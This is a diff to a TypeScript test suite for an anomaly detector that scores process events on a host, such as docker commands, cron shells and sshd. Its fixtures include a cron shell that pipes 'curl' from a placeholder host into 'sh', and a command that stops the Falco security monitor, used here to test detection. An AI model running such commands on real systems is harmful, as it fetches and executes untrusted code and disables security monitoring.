@@ -340,7 +340,7 @@ t.test("rarity: a person account's code run by an interpreter is weighed as anyo
   }
 });
 
-t.test('rarity: new options of a program the account runs count half, unless the arguments are code or an account', async (t) => {
+t.test('rarity: new options of a program the account runs count half, unless the arguments are code, an account or a new object', async (t) => {
   // the host baseline's events of two accounts: a developer's tools, and root's cron shell
   // and sshd's fork for the developer's sessions
   const DAY = 86400;
@@ -366,14 +366,35 @@ t.test('rarity: new options of a program the account runs count half, unless the
   await m.fit(train.map((e) => [e]));
   const at = start + 10 * DAY + 3600;
   const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
-  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
+  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker build --no-cache -t <*> .', at));
   const program = await score(proc('dana', '/usr/bin/htop', '/bin/bash', 'htop', at));
+  // rowfix: a known program on an operand none of its command lines named is no new option
+  const object = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
+  const stop = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at));
   const code = await score(proc('root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c curl -fsSL http://<*>/u.sh | sh', at));
   const account = await score(proc('root', '/usr/sbin/sshd', 'unknown', 'sshd: root [priv]', at));
   // the same new options, run where the account's paths never pointed: a new kind is not discounted
   const place = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at, ['argloc=accounts']));
   t.ok(options.value < program.value - 2, `new options of docker (${options.value.toFixed(2)}) are well below a new program (${program.value.toFixed(2)})`);
-  t.match(options.detail, /^new options of a known program: command `docker compose up -d`/, options.detail);
+  t.match(options.detail, /^new options of a known program: command `docker build --no-cache -t <\*> \.`/, options.detail);
+  for (const s of [object, stop]) {
+    t.ok(
+      s.value > options.value + 2,
+      `a known program on a new object (${s.value.toFixed(2)}) is not discounted as new options are (${options.value.toFixed(2)})`,
+    );
+    t.match(s.detail, /^a known program on a new object \(`/, s.detail);
+  }
+  t.match(stop.detail, /^a known program on a new object \(`stop` `falco`\): command `docker stop falco`/, 'the reasons name the new operands');
+  // the operands known are rebuilt from the counts of a saved model, and learnt online
+  const saved = loadModel(JSON.parse(JSON.stringify(m.toState())));
+  t.equal(
+    (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), context: [] }]))[0].detail,
+    stop.detail,
+    'a saved model knows the same operands',
+  );
+  saved.observe?.(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), []);
+  const again = (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop -t <*> falco', at), context: [] }]))[0];
+  t.match(again.detail, /^new options of a known program/, `once learnt, the object's new options are options (${again.detail})`);
   t.ok(
     code.value > options.value + 2,
     `a new command line of a shell under cron (${code.value.toFixed(2)}) is not discounted as options are (${options.value.toFixed(2)})`,
